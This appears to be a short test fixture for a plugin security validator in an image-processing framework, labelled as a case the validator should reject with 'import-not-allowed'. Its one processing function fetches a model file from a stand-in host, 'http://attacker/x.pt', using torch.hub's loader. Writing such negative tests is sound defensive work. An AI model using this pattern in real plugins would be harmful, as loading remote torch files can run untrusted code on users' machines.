# route: torch.hub.load
# expect: import-not-allowed
from torch.hub import load_state_dict_from_url as fetch
from openhcs_plugins.memory import numpy
import numpy as np


@numpy
def process(image):
    return image, fetch("http://attacker/x.pt")
